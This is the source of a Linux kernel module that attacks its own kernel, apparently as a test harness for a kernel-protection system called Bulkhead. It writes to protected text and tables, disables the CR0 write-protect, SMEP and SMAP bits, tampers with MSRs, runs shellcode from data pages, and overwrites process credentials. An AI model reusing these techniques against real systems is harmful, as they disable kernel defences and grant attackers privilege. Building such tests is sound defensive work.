// A driver that does to its own kernel what an exploit does once it can write anywhere. Not one for any other use.
//
//   echo "KIND [ADDRESS]" > /sys/module/attack/parameters/run
//
// Addresses come from outside: the tests read them from the kernel's image. Each attempt says on the kernel's log whether what it
// wrote is there afterwards.
#include <linux/cred.h>
#include <linux/cpumask.h>
#include <linux/io.h>
#include <linux/jiffies.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/apicdef.h>
#include <asm/asm.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>

#define SAY(kind, stands) pr_emerg("@attack " kind " stands=%s\n", (stands) ? "yes" : "no")

/* Changes a byte behind the kernel's back, by a mapping of one's own that may be written. */
static int write_alias(unsigned long address, u8 change) {
    struct page *page = pfn_to_page(__pa_symbol((void *)address) >> PAGE_SHIFT);
    volatile u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
    u8 old, now;
    if (!alias) return -1;
    alias += address & ~PAGE_MASK;
    old = *alias;
    *alias = old ^ change;
    now = *alias;
    vunmap((void *)((unsigned long)alias & PAGE_MASK));
    return now != old;
}

/* Where the instruction is refused, the next one follows. */
#define TRIED(instruction) "1: " instruction "\n2:\n" _ASM_EXTABLE(1b, 2b)
static void set_cr0(unsigned long value) { asm volatile(TRIED("mov %0, %%cr0") : : "r"(value) : "memory"); }
static void set_cr4(unsigned long value) { asm volatile(TRIED("mov %0, %%cr4") : : "r"(value) : "memory"); }
static void set_idt(struct desc_ptr *table) { asm volatile(TRIED("lidt %0") : : "m"(*table)); }

static int wp(unsigned long address) {
    unsigned long cr0 = read_cr0(), flags;
    int stands;
    local_irq_save(flags);
    set_cr0(cr0 & ~X86_CR0_WP);
    stands = !(read_cr0() & X86_CR0_WP);
    if (stands && address) *(volatile u8 *)address ^= 0x01;
    if (stands) set_cr0(cr0);
    local_irq_restore(flags);
    return stands;
}

static int cr4(unsigned long bits) {
    unsigned long old = __read_cr4(), flags;
    int stands;
    local_irq_save(flags);
    set_cr4(old & ~bits);
    stands = (__read_cr4() & bits) != (old & bits);
    if (stands) set_cr4(old);
    local_irq_restore(flags);
    return stands;
}

static int msr(u32 number, u64 value) {
    u64 old, now;
    rdmsrl(number, old);
    wrmsrl_safe(number, value ? value : old + 16);
    rdmsrl(number, now);
    wrmsrl_safe(number, old);
    return now != old;
}

static int lidt(void) {
    static u8 copy[4096] __aligned(4096);
    struct desc_ptr old, mine;
    unsigned long flags;
    local_irq_save(flags);
    store_idt(&old);
    memcpy(copy, (void *)old.address, sizeof copy);
    mine = (struct desc_ptr){.size = old.size, .address = (unsigned long)copy};
    set_idt(&mine);
    store_idt(&mine);
    if (mine.address != old.address) set_idt(&old);
    local_irq_restore(flags);
    return mine.address != old.address;
}

/* A page of data that becomes code. */
static u8 *executable(const void *code, size_t size) {
    u8 *page = __vmalloc(PAGE_SIZE, GFP_KERNEL);
    pte_t *pte;
    unsigned level;
    if (!page) return NULL;
    memcpy(page, code, size);
    pte = lookup_address((unsigned long)page, &level);
    if (!pte) return NULL;
    pte->pte &= ~_PAGE_NX;
    asm volatile("invlpg (%0)" : : "r"(page) : "memory");
    return page;
}

static int shellcode(void) {
    int (*run)(void) = (void *)executable("\xb8\x2a\x00\x00\x00\xc3", 6);       // mov $42, %eax; ret
    return run && run() == 42;
}

/* Leads the kernel's own page tables to a copy of its constants, in which a byte is another one. */
static int remap(unsigned long address) {
    unsigned level;
    pte_t *entry = lookup_address(address, &level), old;
    bool is_large = level == PG_LEVEL_2M;
    unsigned long size = is_large ? PMD_SIZE : PAGE_SIZE, first = address & ~(size - 1), flags;
    u64 frames = is_large ? PHYSICAL_PMD_PAGE_MASK : PHYSICAL_PAGE_MASK;
    struct page *copy = alloc_pages(GFP_KERNEL, get_order(size));
    volatile u8 *place = (volatile u8 *)address;
    u8 was, now;
    if (!entry || !copy || (!is_large && level != PG_LEVEL_4K)) return -1;
    memcpy(page_address(copy), (void *)first, size);
    ((u8 *)page_address(copy))[address - first] ^= 0x01;
    local_irq_save(flags);
    was = *place;
    old = *entry;
    WRITE_ONCE(entry->pte, (old.pte & ~frames) | (u64)page_to_pfn(copy) << PAGE_SHIFT);
    asm volatile("invlpg (%0)" : : "r"(address) : "memory");
    now = *place;
    WRITE_ONCE(entry->pte, old.pte);
    asm volatile("invlpg (%0)" : : "r"(address) : "memory");
    local_irq_restore(flags);
    __free_pages(copy, get_order(size));
    return now != was;
}

/* Has the hypervisor write for the guest: kvmclock's page is where the guest says. */
static int clock_page(unsigned long address) {
    u64 old, before = *(volatile u64 *)address, now;
    rdmsrl(0x4b564d01, old);
    wrmsrl_safe(0x4b564d01, __pa_symbol((void *)address) | 1);
    now = *(volatile u64 *)address;
    wrmsrl_safe(0x4b564d01, old);
    return now != before;
}

/* The processor itself writes: an exception's frame. */
static void frame(unsigned long address) {
    struct page *page = pfn_to_page(__pa_symbol((void *)address) >> PAGE_SHIFT);
    unsigned long alias = (unsigned long)vmap(&page, 1, VM_MAP, PAGE_KERNEL) + PAGE_SIZE / 2, flags;
    local_irq_save(flags);
    asm volatile("mov %%rsp, %%rbx; mov %0, %%rsp; int3; mov %%rbx, %%rsp" : : "r"(alias) : "rbx", "memory");
    local_irq_restore(flags);
}

/* The same on all processors at once, and by an exception that the processor itself raises. */
static atomic_t waiting;
static void frame_here(void *alias) {
    atomic_dec(&waiting);
    while (atomic_read(&waiting) > 0) cpu_relax();
    asm volatile("mov %0, %%rsp; ud2" : : "r"(alias) : "memory");
}
static void frames(unsigned long address) {
    struct page *page = pfn_to_page(__pa_symbol((void *)address) >> PAGE_SHIFT);
    atomic_set(&waiting, num_online_cpus());
    on_each_cpu(frame_here, vmap(&page, 1, VM_MAP, PAGE_KERNEL) + PAGE_SIZE / 2, 0);
}

/* Writes to text, again and again, what is there; meanwhile another processor puts INT 20h, or INT1, in the place of the very
   instruction, for the moment in which the hypervisor lets it run by itself. At any other moment neither does harm, nor does
   what then lies behind it. */
static u16 *raced, own, instead;
static int racer(void *unused) {
    while (!kthread_should_stop()) {
        WRITE_ONCE(*raced, instead);
        WRITE_ONCE(*raced, own);
        cond_resched();
    }
    return 0;
}
static int race(unsigned long address, const char *instruction, u16 other_code) {
    struct page *page = pfn_to_page(__pa_symbol((void *)address) >> PAGE_SHIFT);
    u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL), *code = executable(instruction, 3), *to;
    unsigned long end = jiffies + 40 * HZ;
    struct task_struct *other;
    if (!alias || !code || num_online_cpus() < 2) return -1;
    raced = (u16 *)code;
    own = *raced;
    instead = other_code;
    migrate_disable();
    other = kthread_create(racer, NULL, "racer");
    kthread_bind(other, cpumask_any_but(cpu_online_mask, smp_processor_id()));
    wake_up_process(other);
    alias += address & ~PAGE_MASK;
    while (time_before(jiffies, end)) {
        to = alias;
        asm volatile("call *%1" : "+D"(to) : "r"(code), "a"(*alias) : "memory");
        cond_resched();
    }
    kthread_stop(other);
    migrate_enable();
    return 1;
}

/* One instruction that reads where no memory is and writes to text. */
static int bus(unsigned long address) {
    struct page *page = pfn_to_page(__pa_symbol((void *)address) >> PAGE_SHIFT);
    volatile u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
    const void *nothing = (__force const void *)ioremap(0xE0000000, PAGE_SIZE), *from = nothing;
    volatile u8 *to;
    u8 old;
    if (!alias || !nothing) return -1;
    alias += address & ~PAGE_MASK;
    to = alias;
    old = *alias;
    asm volatile("movsb" : "+S"(from), "+D"(to) : : "memory");
    return *alias != old;
}

static int credentials(void) {
    struct cred *cred = (struct cred *)current->cred;
    kuid_t old = cred->euid;
    int stands;
    cred->euid = KUIDT_INIT(4711);
    stands = current_euid().val == 4711;
    cred->euid = old;
    return stands;
}

static int run(const char *line, const struct kernel_param *unused) {
    char kind[16] = "";
    unsigned long address = 0;
    if (sscanf(line, "%15s %lx", kind, &address) < 1) return -EINVAL;
    if (!strcmp(kind, "text")) SAY("text", write_alias(address, 0x01));
    else if (!strcmp(kind, "rodata")) SAY("rodata", write_alias(address, 0x01));
    else if (!strcmp(kind, "idt")) SAY("idt", write_alias(address, 0x01));
    else if (!strcmp(kind, "wp")) SAY("wp", wp(address));
    else if (!strcmp(kind, "smep")) SAY("smep", cr4(X86_CR4_SMEP));
    else if (!strcmp(kind, "smap")) SAY("smap", cr4(X86_CR4_SMAP));
    else if (!strcmp(kind, "lstar")) SAY("lstar", msr(MSR_LSTAR, 0));
    else if (!strcmp(kind, "efer")) {
        u64 efer;
        rdmsrl(MSR_EFER, efer);
        SAY("efer", msr(MSR_EFER, efer & ~EFER_NX));
    }
    else if (!strcmp(kind, "apic")) {
        u64 base;
        rdmsrl(MSR_IA32_APICBASE, base);
        SAY("apic", msr(MSR_IA32_APICBASE, base & ~(X2APIC_ENABLE | MSR_IA32_APICBASE_ENABLE)));
    }
    else if (!strcmp(kind, "remap")) SAY("remap", remap(address) > 0);
    else if (!strcmp(kind, "clock")) SAY("clock", clock_page(address));
    else if (!strcmp(kind, "race")) SAY("race", race(address, "\x88\x07\xc3", 0x20cd) > 0);  // mov %al, (%rdi); ret
    else if (!strcmp(kind, "int1")) SAY("int1", race(address, "\xaa\xc3\xc3", 0xc3f1) > 0);  // stosb; ret
    else if (!strcmp(kind, "bus")) SAY("bus", bus(address) > 0);
    else if (!strcmp(kind, "frames")) {
        frames(address);
        SAY("frames", 1);
    }
    else if (!strcmp(kind, "frame")) {
        frame(address);
        SAY("frame", 1);
    }
    else if (!strcmp(kind, "lidt")) SAY("lidt", lidt());
    else if (!strcmp(kind, "shellcode")) SAY("shellcode", shellcode());
    else if (!strcmp(kind, "cred")) SAY("cred", credentials());
    else if (!strcmp(kind, "data")) SAY("data", write_alias(address, 0x01));
    else return -EINVAL;
    return 0;
}

static const struct kernel_param_ops operations = {.set = run};
module_param_cb(run, &operations, NULL, 0200);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("attacks on its own kernel, for Bulkhead's tests");
